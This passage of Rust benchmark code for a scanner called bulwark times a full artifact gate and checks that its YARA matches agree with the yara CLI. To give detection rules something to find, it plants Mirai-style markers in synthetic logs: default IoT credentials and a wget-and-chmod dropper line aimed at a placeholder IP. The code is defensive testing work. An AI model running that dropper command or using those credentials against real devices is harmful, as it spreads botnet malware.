        anyhow::ensure!(
            scan.files_scanned == files,
            "scanned {} of {files} files (skipped: {:?})",
            scan.files_scanned,
            scan.skipped
        );
        if !scan.scan_errors.is_empty() {
            eprintln!(
                "gate: warning: {} YARA scan errors, e.g. {}",
                scan.scan_errors.len(),
                scan.scan_errors[0]
            );
        }
        summary = format!(
            "{files} files, {} components, {} vulnerabilities, {} YARA hits, {} secrets; verdict {:?}",
            scan.sbom.components.len(),
            findings.vulnerabilities.len(),
            findings.malware.len(),
            findings.secrets.len(),
            verdict.status
        );
        eprintln!(
            "gate: full gate run {}: {secs:.2} s ({:.0} MB/s): {summary}",
            run + 1,
            bytes as f64 / MB / secs
        );
        std::hint::black_box(verdict);
    }
    let secs = median(&mut times);
    Ok(Row::untargeted(
        format!(
            "gate: {:.0} MB rootfs tar, full gate (extract + YARA + secrets + inventory + OSV match + policy; {summary}; median of {runs})",
            bytes as f64 / MB
        ),
        format!("{secs:.2} s ({:.0} MB/s)", bytes as f64 / MB / secs),
    ))
}

// ---------------------------------------------------------------------------
// YARA against the C CLI

/// The corpus directory and its size in bytes.
#[derive(Debug)]
struct Corpus {
    dir: PathBuf,
    files: usize,
    bytes: u64,
}

/// Generates the YARA corpus (see the module docs) and warms the cache.
fn yara_corpus(dir: &Path, files: usize, fixtures: &Path) -> anyhow::Result<Corpus> {
    std::fs::create_dir_all(dir)?;
    let mut rng = Rng(0x7A7A_0001);
    let markers: [&[u8]; 3] = [
        b"\n/bin/busybox MIRAI\n",
        b"\nxc3511 vizxv juantech admin 7ujMko0admin\n",
        b"\ncd /tmp; wget http://203.0.113.7/mirai.arm7; chmod +x mirai.arm7\n",
    ];
    for i in 0..files {
        let (name, data) = match i % 20 {
            0..14 => (format!("blob-{i:04}.bin"), rng.bytes(YARA_FILE_BYTES)),
            14..17 => {
                let mut t = text(&mut rng, YARA_FILE_BYTES, "").into_bytes();
                if i % 40 < 20 {
                    let m = markers[(i / 20) % markers.len()];
                    let at = rng.below(t.len() - m.len());
                    t[at..at + m.len()].copy_from_slice(m);
                }
                t.truncate(YARA_FILE_BYTES);
                (format!("log-{i:04}.txt"), t)
            }
            _ => (format!("elf-{i:04}"), binary(&mut rng, YARA_FILE_BYTES)),
        };
        std::fs::write(dir.join(name), data)?;
    }
    // The differential fixtures: they hit every rule.
    if let Ok(entries) = std::fs::read_dir(fixtures) {
        for e in entries.flatten() {
            if e.path().is_file() {
                std::fs::copy(
                    e.path(),
                    dir.join(format!("fixture-{}", e.file_name().to_string_lossy())),
                )?;
            }
        }
    }
    let mut count = 0;
    let mut bytes = 0;
    for e in std::fs::read_dir(dir)?.flatten() {
        bytes += read_through(&e.path())?;
        count += 1;
    }
    eprintln!(
        "gate: YARA corpus {}: {count} files, {:.1} MB",
        dir.display(),
        bytes as f64 / MB
    );
    Ok(Corpus {
        dir: dir.to_path_buf(),
        files: count,
        bytes,
    })
}

/// The rule files of `dir`, as bulwark-yara compiles them (each `*.yar` /
/// `*.yara` directly inside, not hidden), sorted.
fn rule_files(dir: &Path) -> anyhow::Result<Vec<PathBuf>> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(dir)?
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            let name = p.file_name().map(|n| n.to_string_lossy().into_owned());
            p.is_file()
                && name.is_some_and(|n| {
                    !n.starts_with('.') && (n.ends_with(".yar") || n.ends_with(".yara"))
                })
        })
        .collect();
    files.sort();
    anyhow::ensure!(!files.is_empty(), "{} holds no rules", dir.display());
    Ok(files)
}

/// (namespace:rule, file name) pairs.
type HitSet = BTreeSet<(String, String)>;

fn file_name(path: &Path) -> String {
    path.file_name()
        .map_or_else(String::new, |n| n.to_string_lossy().into_owned())
}

/// `yara --version`.
fn yara_version(yara: &Path) -> anyhow::Result<String> {
    let out = Command::new(yara)
        .arg("--version")
        .output()
        .with_context(|| {
            format!(
                "running {} (install the Debian package `yara`, or pass --yara)",
                yara.display()
            )
        })?;
    Ok(String::from_utf8_lossy(&out.stdout).trim().to_owned())
}

/// `yara -e -w -p THREADS ns:rule.yar… TARGET`, timed; its hits.
fn yara_cli(
    yara: &Path,
    rule_files: &[PathBuf],
    target: &Path,
    threads: usize,
) -> anyhow::Result<(f64, HitSet)> {
    let mut c = Command::new(yara);
    c.args(["-e", "-w", "-p", &threads.to_string()])
        .args(["-a", &YARA_TIMEOUT.as_secs().to_string()]);
    for f in rule_files {
        let ns = f
            .file_stem()
            .map_or_else(String::new, |s| s.to_string_lossy().into_owned());
        c.arg(format!("{ns}:{}", f.display()));
    }
    c.arg(target);
    let t = Instant::now();
    let out = c.output().with_context(|| {
        format!(
            "running {} (install the Debian package `yara`, or pass --yara)",
            yara.display()
        )
    })?;
    let secs = t.elapsed().as_secs_f64();
    if !out.status.success() {
        bail!(
            "{} failed with {}: {}",
            yara.display(),
            out.status,
            String::from_utf8_lossy(&out.stderr)
        );
    }
    let stdout = String::from_utf8(out.stdout).context("yara's output is not UTF-8")?;
    let hits = stdout
        .lines()
        .map(|line| {
            let (rule, path) = line
                .split_once(' ')
                .with_context(|| format!("unexpected yara output line {line:?}"))?;
            Ok((rule.to_owned(), file_name(Path::new(path))))
        })
        .collect::<anyhow::Result<HitSet>>()?;
    Ok((secs, hits))
}

/// `bulwark_yara::scan_paths` over the corpus, timed; its hits.
fn bulwark_scan_paths(
    rules: &Rules,
    paths: &[PathBuf],
    threads: NonZeroUsize,
) -> anyhow::Result<(f64, HitSet)> {
    let t = Instant::now();
    let scans = bulwark_yara::scan_paths(rules, paths, threads, YARA_TIMEOUT);
    let secs = t.elapsed().as_secs_f64();
    let mut hits = HitSet::new();
    for scan in scans {
        let found = scan
            .result
            .with_context(|| format!("bulwark-yara on {}", scan.path.display()))?;
        for h in found {
            hits.insert((format!("{}:{}", h.namespace, h.rule), file_name(&scan.path)));
        }
    }
    Ok((secs, hits))
}

/// Fails loudly when the two sides disagree.
fn same_hits(ours: &HitSet, theirs: &HitSet, threads: usize) -> anyhow::Result<()> {
    if ours == theirs {
        return Ok(());
    }
    let only_ours: Vec<_> = ours.difference(theirs).take(10).collect();
    let only_theirs: Vec<_> = theirs.difference(ours).take(10).collect();
    bail!(
        "bulwark-yara and yara disagree on the corpus ({threads} threads; first 10 of each)\n only bulwark-yara: {only_ours:?}\n only yara: {only_theirs:?}"
    )
}

fn yara_vs_cli(
    yara: &Path,
    rules: &Rules,
    rule_files: &[PathBuf],
    corpus: &Corpus,
    threads: usize,
    work: &Path,
    version: &str,
) -> anyhow::Result<Row> {
    let mut paths: Vec<PathBuf> = std::fs::read_dir(&corpus.dir)?
        .flatten()
        .map(|e| e.path())
        .collect();
    paths.sort();
    let n = NonZeroUsize::new(threads).context("threads must be > 0")?;
    // yara's fixed cost: start and compile the rules, scan an empty file.
    let empty = work.join("empty");
    File::create(&empty)?;
    let mut fixed = Vec::new();
    for _ in 0..RUNS {
        fixed.push(yara_cli(yara, rule_files, &empty, threads)?.0);
    }
    let fixed = median(&mut fixed);
    let (mut ours, mut theirs) = (Vec::new(), Vec::new());
    let mut hits = 0;
    for run in 0..RUNS {
        let (secs, our_hits) = bulwark_scan_paths(rules, &paths, n)?;
        ours.push(secs);
        let (cli_secs, cli_hits) = yara_cli(yara, rule_files, &corpus.dir, threads)?;
        theirs.push((cli_secs - fixed).max(1e-6));
        same_hits(&our_hits, &cli_hits, threads)?;
        anyhow::ensure!(!our_hits.is_empty(), "the corpus produced no hits");
        hits = our_hits.len();
        eprintln!(
            "gate: YARA {threads} thread(s), run {}: bulwark {secs:.3} s, yara {cli_secs:.3} s (fixed cost {fixed:.3} s); {hits} identical hits",
            run + 1
        );
    }
    let mb = corpus.bytes as f64 / MB;
    let ours = mb / median(&mut ours);
    let theirs = mb / median(&mut theirs);
    let ratio = ours / theirs;
    Ok(Row {
        benchmark: format!(
            "gate: YARA scan throughput, {threads} thread{} ({} files, {mb:.0} MB, fixture rules, page cache warm; {hits} (rule, file) hits, identical; median of {RUNS})",
            if threads == 1 { "" } else { "s" },
            corpus.files,
        ),
        bulwark: format!("{ours:.0} MB/s"),
        peer: format!("`yara -p {threads}` (YARA {version}): {theirs:.0} MB/s"),
        target: format!("≥ {TARGET_YARA_RATIO:.1}× yara"),
        result: format!("{ratio:.2}×: {}", met(ratio >= TARGET_YARA_RATIO)),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn highest_fixed_version_by_numeric_fields() {
        assert!(numeric_key("1.10.0") > numeric_key("1.9.2"));
        assert!(numeric_key("2.0") > numeric_key("1.99.99"));
        assert_eq!(numeric_key("v0.17.0"), [0, 17, 0]);
    }

    #[test]
    fn go_components_carry_a_v() {
        assert_eq!(
            component_version(ComponentEcosystem::Golang, "1.6.0"),
            "v1.6.0"
        );
        assert_eq!(
            component_version(ComponentEcosystem::Golang, "v1.6.0"),
            "v1.6.0"
        );
        assert_eq!(component_version(ComponentEcosystem::Pypi, "2.0"), "2.0");
    }

    #[test]
    fn generated_rootfs_is_reproducible_and_inventoried() {
        let package = |name: &str| Package {
            name: name.into(),
            old: "1.0.0".into(),
            current: "2.0.0".into(),
        };
        let catalog = Catalog {
            pypi: vec![package("requests"), package("django")],
            go: vec![package("github.com/gin-gonic/gin")],
            crates: vec![package("smallvec")],
        };
        let dir = tempfile::tempdir().expect("tempdir");
        let (a, b) = (dir.path().join("a.tar"), dir.path().join("b.tar"));
        let files = rootfs(&a, 2_000_000, &catalog).expect("rootfs");
        rootfs(&b, 2_000_000, &catalog).expect("rootfs");
        assert_eq!(std::fs::read(&a).ok(), std::fs::read(&b).ok());
        let scan = bulwark_scan::scan_artifact(&a, "t", None, &bulwark_extract::Limits::default())
            .expect("scan");
        assert_eq!(scan.files_scanned, files);
        // 500 dpkg packages, 2 Python distributions, 1 crate, 1 Go module,
        // 120 npm packages.
        assert_eq!(scan.sbom.components.len(), 500 + 2 + 1 + 1 + 120);
    }
}
